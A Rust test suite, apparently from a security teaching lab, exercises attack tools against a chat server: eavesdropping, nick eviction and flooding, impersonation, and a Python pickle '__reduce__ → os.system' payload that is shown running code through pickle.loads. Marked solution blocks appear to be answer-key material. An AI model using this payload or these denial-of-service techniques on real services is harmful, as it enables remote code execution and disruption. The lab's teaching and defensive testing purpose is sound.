//! The lab's attacks on the plain chat: each one succeeds against the
//! original's trust model, and the denial of service fails against
//! `--guard`. The tools are the binaries (their output and exit status are
//! the contract); the servers run in the test's process.

mod common;

use std::io::Write;
use std::process::{Command, Stdio};

use anyhow::Result;
use chat_lab::prerequisite::{self, PYTHON3};
use chat_lab::process::{Finished, Process, run, wait_until};
use chat_lab::raw::{Conn, ok};
use chat_lab::scratch::Scratch;
use chat_lab::stage::Server;
use common::{assert_ko, assert_no_server_panic, guarded, plain};
use serde_json::json;

/// The nicks a guarded connection may hold (simple_server's
/// MAX_NICKS_PER_CONNECTION, as PROTOCOL.md section 4 sets it).
const MAX_NICKS: usize = 16;

// BEGIN SOLUTION ITEMS (step 3: the payload, written in Python)
/// The Python original's view of the exploit: an object whose `__reduce__`
/// calls `os.system(argv[1])`, pickled with the protocol of Python 3.8 to
/// 3.13's `pickle.dumps` (explicit, so a newer default cannot change it).
const PYTHON_PICKLE_DUMPS: &str = "
import os, pickle, sys
class Exploit:
    def __reduce__(self):
        return (os.system, (sys.argv[1],))
sys.stdout.buffer.write(pickle.dumps(Exploit(), protocol=4))
";
// END SOLUTION ITEMS

/// What the Python original's server did with every request.
const PYTHON_PICKLE_LOADS: &str = "import pickle,sys; pickle.loads(sys.stdin.buffer.read())";

fn with_server(server: &Server, args: &[&str]) -> Vec<String> {
    let mut all = server.client_args();
    all.extend(args.iter().map(|a| a.to_string()));
    all
}

fn dos(server: &Server, args: &[&str]) -> Finished {
    run(&bin!("simple_dos"), &with_server(server, args)).unwrap()
}

fn exploit(server: &Server, args: &[&str]) -> Finished {
    run(&bin!("simple_exploit"), &with_server(server, args)).unwrap()
}

/// A request connection on which `nick` has joined.
fn joined(server: &Server, nick: &str) -> Conn {
    let mut conn = server.request().unwrap();
    assert_eq!(conn.join(nick).unwrap(), ok());
    conn
}

/// Starts big brother; returns once it says it listens and the server has
/// registered it (the only subscriber).
fn bigbrother(server: &Server) -> Result<Process> {
    let spy = Process::spawn(&bin!("simple_bigbrother"), server.client_args(), &[])?;
    spy.stderr.wait_for("announcing it listens", |l| {
        l.contains("listening to every conversation")
    })?;
    server.wait_for_subscribers(1)?;
    Ok(spy)
}

#[test]
fn bigbrother_prints_what_a_client_says_and_is_absent_from_list() -> Result<()> {
    let server = plain();
    let mut alice = joined(&server, "alice");
    let spy = bigbrother(&server)?;

    assert_eq!(alice.say("alice", "meet at noon")?, ok());
    spy.stdout.wait_for_line("alice : meet at noon")?;
    let logged = spy.stderr.wait_for("logging the message", |l| {
        l.ends_with("alice : meet at noon")
    })?;
    let stamp = logged.split_whitespace().next().unwrap_or_default();
    assert!(
        stamp.starts_with('[') && stamp.contains('T') && stamp.ends_with('Z'),
        "no timestamp in {logged:?}"
    );
    assert_eq!(alice.list()?, ["alice"]);
    Ok(())
}

#[test]
fn bigbrother_prints_an_encrypted_message_as_its_salt_and_token() -> Result<()> {
    let server = plain();
    let mut bob = joined(&server, "bob");
    let spy = bigbrother(&server)?;

    let sealed = json!({"salt": "c2FsdHNhbHRzYWx0c2FsdA==", "token": "gAAAAABm"});
    let frame = json!({"type": "message", "nick": "bob", "message": sealed});
    assert_eq!(bob.send_json(&frame)?, ok());
    spy.stdout
        .wait_for_line(r#"bob : {"salt":"c2FsdHNhbHRzYWx0c2FsdA==","token":"gAAAAABm"}"#)?;
    Ok(())
}

#[test]
fn bigbrother_exits_non_zero_when_the_server_goes_away() -> Result<()> {
    let server = plain();
    let mut spy = bigbrother(&server)?;

    server.stop();
    assert!(!spy.exit_status()?.success());
    spy.stderr.wait_for("saying the server is gone", |l| {
        l.contains("connection to server lost")
    })?;
    Ok(())
}

#[test]
fn evict_makes_the_victims_next_message_refused_on_a_plain_server() -> Result<()> {
    let server = plain();
    let mut victim = joined(&server, "bob");

    let Finished {
        status,
        stdout,
        stderr,
    } = dos(&server, &["--evict", "bob"]);
    assert!(status.success(), "{stdout}{stderr}");
    assert!(
        stdout.starts_with("evict 'bob': server answered ok"),
        "{stdout}"
    );
    assert_eq!(stdout.lines().count(), 1, "{stdout}");
    assert_ko(&victim.say("bob", "anyone there?")?, "not joined");
    assert!(victim.list()?.is_empty());
    Ok(())
}

#[test]
fn evict_of_a_nick_that_is_not_joined_fails() {
    let server = plain();
    let Finished { status, stdout, .. } = dos(&server, &["--evict", "nobody"]);
    assert_eq!(status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains("server answered ko: nick 'nobody' is not joined"),
        "{stdout}"
    );
}

#[test]
fn evict_has_no_effect_with_guard() -> Result<()> {
    let server = guarded();
    let mut victim = joined(&server, "bob");

    let Finished { status, stdout, .. } = dos(&server, &["--evict", "bob"]);
    assert_eq!(status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains("server answered ko: nick 'bob' belongs to another connection"),
        "{stdout}"
    );
    assert_eq!(victim.say("bob", "still here")?, ok());
    assert_eq!(victim.list()?, ["bob"]);
    Ok(())
}

#[test]
fn a_foreign_connection_speaks_as_the_victim_on_a_plain_server() -> Result<()> {
    let server = plain();
    joined(&server, "bob");
    let mut sub = server.synced_subscriber()?;
    let mut mallory = server.request()?;
    assert_eq!(mallory.say("bob", "I quit")?, ok());
    let relayed = sub.next_json()?;
    assert_eq!(relayed["nick"], "bob");
    assert_eq!(relayed["message"], "I quit");
    Ok(())
}

#[test]
fn with_guard_a_foreign_connection_cannot_speak_or_leave_as_the_victim() -> Result<()> {
    let server = guarded();
    let mut victim = joined(&server, "bob");
    let mut mallory = server.request()?;

    assert_ko(
        &mallory.say("bob", "I quit")?,
        "belongs to another connection",
    );
    assert_ko(&mallory.leave("bob")?, "belongs to another connection");
    assert_eq!(victim.say("bob", "I stay")?, ok());
    assert_eq!(victim.leave("bob")?, ok());
    Ok(())
}

#[test]
fn with_guard_the_17th_nick_of_one_connection_is_refused() -> Result<()> {
    let server = guarded();
    let mut hoarder = server.request()?;
    for i in 0..MAX_NICKS {
        assert_eq!(hoarder.join(&format!("ghost{i}"))?, ok());
    }
    assert_ko(&hoarder.join("ghost16")?, "already holds 16 nicks");
    joined(&server, "ghost16");
    Ok(())
}

#[test]
fn with_guard_a_closed_connections_nicks_are_freed() -> Result<()> {
    let server = guarded();
    let mut observer = server.request()?;
    let carol = joined(&server, "carol");
    assert_eq!(observer.list()?, ["carol"]);

    drop(carol);
    wait_until("carol's nick is freed", || Ok(observer.list()?.is_empty()))?;
    assert_eq!(observer.join("carol")?, ok());
    Ok(())
}

#[test]
fn flood_leaves_n_more_nicks_on_a_plain_server() -> Result<()> {
    let server = plain();
    let mut alice = joined(&server, "alice");
    let flood = 2 * MAX_NICKS;

    let Finished {
        status,
        stdout,
        stderr,
    } = dos(&server, &["--flood", &flood.to_string()]);
    assert!(status.success(), "{stdout}{stderr}");
    assert_eq!(
        stdout.trim_end(),
        format!("flood: {flood}/{flood} nicks joined")
    );
    let nicks = alice.list()?;
    assert_eq!(nicks.len(), 1 + flood, "{nicks:?}");
    assert_eq!(nicks[0], "alice");
    assert!(
        nicks[1..].iter().all(|n| n.split('_').count() == 3),
        "{nicks:?}"
    );
    Ok(())
}

#[test]
fn flood_stops_at_16_nicks_with_guard_and_they_are_freed_when_it_exits() -> Result<()> {
    let server = guarded();
    let mut observer = server.request()?;

    let Finished { status, stdout, .. } = dos(&server, &["--flood", "20"]);
    assert_eq!(status.code(), Some(1), "{stdout}");
    assert_eq!(
        stdout.trim_end(),
        "flood: 16/20 nicks joined; server answered ko: this connection already holds 16 nicks"
    );
    wait_until("the flood's nicks are freed", || {
        Ok(observer.list()?.is_empty())
    })?;
    Ok(())
}

#[test]
fn dos_takes_exactly_one_attack() {
    let server = plain();
    for args in [
        &[][..],
        &["--evict", "bob", "--flood", "3"],
        &["--flood", "0"],
    ] {
        let refused = dos(&server, args);
        assert_eq!(
            refused.status.code(),
            Some(2),
            "{args:?}: {}",
            refused.stderr
        );
    }
}

#[test]
fn exploit_leaves_the_server_alive_serving_and_runs_nothing() -> Result<()> {
    for (mode, server) in [("open", plain()), ("guarded", guarded())] {
        let scratch = Scratch::new("unsecured-chat-exploit")?;
        let proof = scratch.path().join("pwned");
        let command = format!("touch '{}'", proof.display());

        let Finished {
            status,
            stdout,
            stderr,
        } = exploit(&server, &["--command", &command]);
        assert!(status.success(), "{mode}: {stdout}{stderr}");
        let lines: Vec<&str> = stdout.lines().collect();
        assert!(
            lines[0].starts_with("pickle __reduce__ -> os.system("),
            "{stdout}"
        );
        assert!(lines[0].contains("invalid UTF-8 at byte 0"), "{stdout}");
        assert!(
            !stdout.contains(r#"{"response":"ok"}"#),
            "a payload was accepted: {stdout}"
        );
        assert!(
            stdout.contains("closing the connection\"} | connection closed by the server"),
            "{stdout}"
        );
        assert!(stdout.contains("legitimate client: served"), "{stdout}");
        assert!(
            stdout.contains("the pickle exploit: refused (ko: ") && stdout.contains("nothing ran"),
            "{stdout}"
        );
        assert!(stdout.contains("why it was refused"), "{stdout}");
        assert!(!stdout.contains("may well have run"), "{stdout}");

        let mut fresh = server.request()?;
        assert_eq!(fresh.join("alice")?, ok());
        assert_eq!(fresh.list()?, ["alice"]);
        assert!(!proof.exists(), "{mode}: the command ran");
    }
    assert_no_server_panic();
    Ok(())
}

#[test]
fn exploit_answers_every_line_of_a_pickle_that_holds_newlines() {
    let server = plain();
    // A 10-byte command: its length byte is `\n`, so the pickle is two lines.
    let Finished { status, stdout, .. } = exploit(&server, &["--command", "touch /a/b"]);
    assert!(status.success(), "{stdout}");
    let pickle = stdout.lines().next().unwrap_or_default();
    assert_eq!(pickle.matches(r#"{"response":"ko""#).count(), 2, "{pickle}");
}

#[test]
fn the_tools_fail_in_one_line_when_no_server_answers() -> Result<()> {
    let server = plain();
    let args = server.client_args();
    server.stop();
    let tools = [
        (bin!("simple_bigbrother"), vec![]),
        (bin!("simple_dos"), vec!["--evict", "bob"]),
        (bin!("simple_exploit"), vec![]),
    ];
    for (tool, extra) in tools {
        let mut all = args.clone();
        all.extend(extra.iter().map(|a| a.to_string()));
        let Finished {
            status,
            stdout,
            stderr,
        } = run(&tool, &all)?;
        assert_eq!(status.code(), Some(1), "{tool:?}: {stderr}");
        assert!(stdout.is_empty(), "{tool:?}: {stdout}");
        assert!(
            stderr.starts_with("error: cannot reach server"),
            "{tool:?}: {stderr}"
        );
        assert_eq!(stderr.lines().count(), 1, "{tool:?}: {stderr}");
    }
    Ok(())
}

#[test]
fn each_attack_explains_itself_in_help() -> Result<()> {
    let expected = [
        (
            bin!("simple_bigbrother"),
            ["never joins", "broadcast port", "--guard"],
        ),
        (bin!("simple_dos"), ["trust model", "--evict", "--guard"]),
        (
            bin!("simple_exploit"),
            ["__reduce__", "executes nothing", "--dump"],
        ),
    ];
    for (tool, needles) in expected {
        let Finished {
            status,
            stdout: help,
            ..
        } = run(&tool, &["--help"])?;
        assert!(status.success(), "{tool:?}");
        for needle in needles {
            assert!(
                help.contains(needle),
                "{tool:?} --help lacks {needle:?}:\n{help}"
            );
        }
        let Finished {
            status,
            stdout: version,
            ..
        } = run(&tool, &["--version"])?;
        assert!(
            status.success() && version.contains(env!("CARGO_PKG_VERSION")),
            "{tool:?}"
        );
    }
    Ok(())
}

/// The rogue server takes the clients' key flags (to re-seal what it
/// relays); its help speaks of the server, not of "this client".
#[test]
fn the_rogue_servers_help_does_not_speak_as_a_client() -> Result<()> {
    let Finished { status, stdout, .. } = run(&bin!("rogue_server"), &["--help"])?;
    assert!(status.success());
    assert!(stdout.contains("--room"), "{stdout}");
    assert!(!stdout.contains("this client"), "{stdout}");
    Ok(())
}

/// The stdout of a command that must succeed.
fn stdout_of(command: &mut Command) -> Vec<u8> {
    let output = command.output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{command:?}: {stderr}");
    output.stdout
}

/// `simple_exploit --dump --command CMD`: the raw pickle.
fn dumped_pickle(command: &str) -> Vec<u8> {
    stdout_of(Command::new(bin!("simple_exploit")).args(["--dump", "--command", command]))
}

// BEGIN SOLUTION ITEMS (step 3: the payload, compared with Python's)
#[test]
fn the_dumped_payload_is_what_python_pickles() {
    if !prerequisite::python3("the comparison with the Python original") {
        return;
    }
    let long = format!("echo {}", "x".repeat(300));
    for command in ["touch /tmp/x", "touch /a/b", "echo héllo ✓", long.as_str()] {
        let python = stdout_of(Command::new(PYTHON3).args(["-c", PYTHON_PICKLE_DUMPS, command]));
        assert_eq!(dumped_pickle(command), python, "command {command:?}");
    }
}
// END SOLUTION ITEMS

#[test]
fn the_payload_that_does_nothing_to_our_server_runs_code_in_python() -> Result<()> {
    if !prerequisite::python3("the comparison with the Python original") {
        return Ok(());
    }
    let scratch = Scratch::new("unsecured-chat-pwned-by-python")?;
    let proof = scratch.path().join("pwned");
    let payload = dumped_pickle(&format!("touch '{}'", proof.display()));
    let mut python = Command::new(PYTHON3)
        .args(["-c", PYTHON_PICKLE_LOADS])
        .stdin(Stdio::piped())
        .spawn()?;
    python.stdin.take().unwrap().write_all(&payload)?;
    assert!(python.wait()?.success());
    assert!(proof.exists(), "pickle.loads did not run the command");
    Ok(())
}

/// A stand-in for the Python original's server on its wire (ZeroMQ REP),
/// as far as the exploit can tell: a body it reads as one of the chat's
/// pickled requests gets the chat's answer; any other body is handed to
/// Python's own `pickle.loads` where python3 is present, as the original
/// unpickled every request, and answered with an empty body, as the
/// original answers when its handler raises (after the exploit's command
/// ran, `os.system` returned a number where a dict was expected).
mod pickle_reader {
    use std::collections::BTreeSet;
    use std::io::Write;
    use std::net::{SocketAddr, TcpListener, TcpStream};
    use std::process::{Command, Stdio};
    use std::sync::{Arc, Mutex};
    use std::thread;

    use chat::wire::zmtp::{self, MessageReader, SocketType};
    use chat::wire::{Codec, Request, Response};

    /// Listens on free ports; serves until the test process ends.
    pub fn start() -> (SocketAddr, SocketAddr) {
        let requests = TcpListener::bind("127.0.0.1:0").unwrap();
        let broadcasts = TcpListener::bind("127.0.0.1:0").unwrap();
        let addrs = (
            requests.local_addr().unwrap(),
            broadcasts.local_addr().unwrap(),
        );
        let joined = Arc::new(Mutex::new(BTreeSet::new()));
        thread::spawn(move || {
            for stream in requests.incoming().flatten() {
                let joined = Arc::clone(&joined);
                thread::spawn(move || serve(&stream, &joined));
            }
        });
        thread::spawn(move || drop(broadcasts.incoming().flatten().collect::<Vec<_>>()));
        addrs
    }

    fn serve(stream: &TcpStream, joined: &Mutex<BTreeSet<String>>) {
        if zmtp::handshake(stream, SocketType::Rep, zmtp::HANDSHAKE_TIMEOUT).is_err() {
            return;
        }
        let mut reader = MessageReader::new(stream, SocketType::Rep);
        while let Ok(Some(body)) = reader.read_message() {
            let answer = answer(body, joined);
            let mut out = Vec::new();
            zmtp::push_delimiter(&mut out);
            zmtp::push_frame_with(&mut out, 0, |out| out.extend_from_slice(&answer));
            let mut writer = stream;
            if writer.write_all(&out).is_err() {
                return;
            }
        }
    }

    /// The chat's answer to a request it reads; else what unpickling
    /// leaves of the original's handler: an empty body.
    fn answer(body: &[u8], joined: &Mutex<BTreeSet<String>>) -> Vec<u8> {
        let mut joined = joined.lock().unwrap();
        let response = match Codec::Pickle.decode_request(body) {
            Ok(Request::Join { nick, .. }) => {
                joined.insert(nick.as_str().to_owned());
                Response::Ok
            }
            Ok(Request::Leave { nick }) => {
                joined.remove(nick.as_str());
                Response::Ok
            }
            Ok(Request::List) => Response::Nicks {
                nicks: joined.iter().cloned().collect(),
                more: 0,
            },
            Ok(Request::Message { .. }) => Response::Ok,
            Err(_) => {
                unpickle(body);
                return Vec::new();
            }
        };
        Codec::Pickle.response_bytes(&response)
    }

    /// `pickle.loads(body)` in Python, where python3 is present.
    fn unpickle(body: &[u8]) {
        let python = Command::new("python3")
            .args(["-c", super::PYTHON_PICKLE_LOADS])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
        if let Ok(mut python) = python {
            if let Some(mut stdin) = python.stdin.take() {
                let _ = stdin.write_all(body);
            }
            let _ = python.wait();
        }
    }
}

#[test]
fn against_a_pickle_reading_server_the_exploit_is_not_called_a_failure() -> Result<()> {
    let (requests, broadcasts) = pickle_reader::start();
    let scratch = Scratch::new("unsecured-chat-pickle-reader")?;
    let proof = scratch.path().join("pwned");
    let command = format!("touch '{}'", proof.display());
    let args = [
        "--wire",
        "zmq",
        "--port",
        &requests.port().to_string(),
        "--broadcast-port",
        &broadcasts.port().to_string(),
        "--command",
        &command,
    ];
    let Finished { stdout, stderr, .. } = run(&bin!("simple_exploit"), &args)?;
    assert!(
        stdout.contains(
            "the pickle exploit: NOT refused: the server answered (an empty body: 0 bytes)"
        ) && stdout.contains("may well have run")
            && stdout.contains(&format!("the command creates '{}'", proof.display())),
        "{stdout}{stderr}"
    );
    for misleading in [
        "nothing ran",
        "refused (ko",
        "why it was refused",
        "survived",
    ] {
        assert!(!stdout.contains(misleading), "{misleading:?} in {stdout}");
    }
    assert!(stdout.contains("why it may have run"), "{stdout}");
    if prerequisite::python3("the pickle-reading server") {
        assert!(proof.exists(), "python3 unpickled the payload, yet no file");
    }
    Ok(())
}
